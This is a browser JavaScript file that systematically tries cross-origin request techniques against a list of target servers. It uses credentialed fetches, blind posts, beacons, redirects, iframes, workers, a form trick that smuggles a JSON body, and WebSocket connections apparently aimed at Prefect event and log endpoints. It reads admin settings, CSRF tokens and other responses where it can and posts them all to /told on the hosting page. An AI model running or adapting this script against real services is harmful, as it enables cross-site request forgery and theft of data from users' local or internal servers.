// Every way in which a page can ask another server for something, tried on each of `targets` ([method, path, words]) at each
// of `bases`. Told to /told is what came of each: "refused", "blind" where it went out and nothing can be read, or what was read.
(async () => {
  const told = [], json = "application/json", waiting = 30000;
  const patient = promise => Promise.race([promise, new Promise(done => setTimeout(done, waiting, "late"))]);
  const note = async (name, way) => {
    try { told.push([name, await patient(way())]); } catch (e) { told.push([name, "refused"]); }
  };
  const read = answer => answer.type.startsWith("opaque") ? "blind" : answer.text().then(text => `read ${answer.status} ${text}`);
  const element = (tag, attributes) => new Promise((done, fail) => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.onload = () => {
      try { done(made.contentDocument?.body?.innerText ? `read 200 ${made.contentDocument.body.innerText}` : "blind"); }
      catch (e) { done("blind"); }
    };
    made.onerror = fail;
    document.body.append(made);
  });
  const form = (action, enctype, method, words) => new Promise(done => {
    const frame = document.createElement("iframe"), made = document.createElement("form"), field = document.createElement("input");
    frame.name = `f${Math.random()}`;
    Object.assign(made, {action, enctype, method, target: frame.name});
    // What a form sends as text is name=value: here it is JSON with one more key.
    const [start, end] = [words.slice(0, -1), `${words.slice(-1)}`];
    Object.assign(field, {name: `${start}${start.length > 1 ? "," : ""}"x":"`, value: `"${end}`});
    made.append(field);
    document.body.append(frame, made);
    frame.onload = () => {
      try { done(frame.contentDocument.body.innerText ? `read 200 ${frame.contentDocument.body.innerText}` : "blind"); }
      catch (e) { done("blind"); }
    };
    made.submit();
  });
  const within = (attributes, words) => new Promise(done => {
    const frame = Object.assign(document.createElement("iframe"), attributes);
    addEventListener("message", message => message.source === frame.contentWindow && done(message.data));
    const script = `fetch(...${words}).then(a => a.type === "opaque" ? "blind" : "read " + a.status, () => "refused")` +
      `.then(t => parent.postMessage(t, "*"))`;
    const page = `<script>${script}</` + `script>`;
    attributes.src === "data:" ? frame.src = `data:text/html,${encodeURIComponent(page)}` : frame.srcdoc = page;
    document.body.append(frame);
  });
  const socket = (address, protocols, first) => new Promise((done, fail) => {
    const made = new WebSocket(address, protocols);
    // A door that opens is one, whatever the server does next.
    made.onopen = () => { made.send(first); done("read 101"); };
    made.onerror = made.onclose = fail;
  });
  for (const base of bases) {
    const all = [];
    for (const [name, [method, path, body]] of Object.entries(targets)) {
      const url = base + path, words = JSON.stringify(body), n = way => `${base} ${name} ${way}`;
      const send = (options, to = url) => () => fetch(to, {method, body: words, ...options}).then(read);
      const blind = type => send({method: "POST", mode: "no-cors", headers: {"Content-Type": type}});
      all.push(
        note(n("as JSON"), send({headers: {"Content-Type": json}})),
        note(n("with cookies"), send({credentials: "include", headers: {"Content-Type": json}})),
        note(n("with a password"), send({headers: {"Content-Type": json, Authorization: "Basic Og=="}})),
        note(n("as plain text"), send({method: "POST", headers: {"Content-Type": "text/plain"}})),
        note(n("blind plain text"), blind("text/plain")),
        note(n("blind form"), blind("application/x-www-form-urlencoded")),
        note(n("blind parts"), blind("multipart/form-data; boundary=x")),
        note(n("kept alive"), send({method: "POST", mode: "no-cors", keepalive: true})),
        note(n("without a type"), () => fetch(url, {method: "POST", body: new Blob([words])}).then(read)),
        note(n("by a redirect"), send({method: "POST", mode: "no-cors"}, `/away?${encodeURIComponent(url)}`)),
        note(n("by a redirect, read"), send({method: "POST", headers: {"Content-Type": "text/plain"}},
          `/away?${encodeURIComponent(url)}`)),
        note(n("beacon"), async () => navigator.sendBeacon(url, words) ? "blind" : "refused"),
        note(n("beacon of JSON"), async () => navigator.sendBeacon(url, new Blob([words], {type: json})) ? "blind" : "refused"),
        note(n("XMLHttpRequest"), () => new Promise((done, fail) => {
          const request = new XMLHttpRequest();
          request.open("POST", url);
          request.onload = () => done(`read ${request.status} ${request.responseText}`);
          request.onerror = fail;
          request.send(words);
        })),
        note(n("form of text"), () => form(url, "text/plain", "POST", words)),
        note(n("form of parts"), () => form(url, "multipart/form-data", "POST", words)),
        note(n("form of fields"), () => form(url, "application/x-www-form-urlencoded", "POST", words)),
        note(n("from a sandbox"), () => within({sandbox: "allow-scripts"}, JSON.stringify([url, {method: "POST", body: words}]))),
        note(n("from data:"), () => within({src: "data:"}, JSON.stringify([url, {method: "POST", mode: "no-cors", body: words}]))),
        note(n("from a worker"), () => new Promise(done => {
          const script = `fetch(${JSON.stringify(url)}, {method: "POST", body: ${JSON.stringify(words)}})` +
            `.then(a => "read " + a.status, () => "refused").then(postMessage)`;
          new Worker(URL.createObjectURL(new Blob([script]))).onmessage = message => done(message.data);
        })),
      );
      await Promise.all(all);
    }
    for (const path of ["/", "/login", "/openapi.json", "/ui-settings", "/docs", "/api/admin/settings", "/api/csrf-token?client=x"]) {
      const url = base + path, n = way => `${base} ${path} ${way}`;
      all.push(
        note(n("fetched"), () => fetch(url).then(read)),
        note(n("fetched with cookies"), () => fetch(url, {credentials: "include"}).then(read)),
        note(n("framed"), () => element("iframe", {src: url})),
        note(n("embedded"), () => element("embed", {src: url})),
        note(n("as an object"), () => element("object", {data: url})),
        note(n("as a script"), () => element("script", {src: url})),
        note(n("as a module"), () => import(url).then(module => `read 200 ${Object.keys(module)}`)),
        note(n("as a style"), () => element("link", {rel: "stylesheet", href: url})),
        note(n("as a picture"), () => element("img", {src: url})),
        note(n("fetched before"), () => element("link", {rel: "prefetch", href: url})),
        note(n("as events"), () => new Promise((done, fail) => {
          const events = new EventSource(url);
          events.onopen = () => done("read 200");
          events.onerror = () => { events.close(); fail(); };
        })),
      );
      await Promise.all(all);
    }
    for (const path of ["/api/events/in", "/api/events/out", "/api/logs/out"]) {
      for (const first of ['{"type":"auth"}', '{"type":"auth","token":""}', '{"type":"filter","filter":{}}']) {
        for (const protocols of [["prefect"], []]) {
          all.push(note(`${base} socket ${path} ${protocols} ${first}`, () => socket(base.replace("http", "ws") + path, protocols, first)));
        }
      }
    }
    await Promise.all(all);
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(told)});
})();
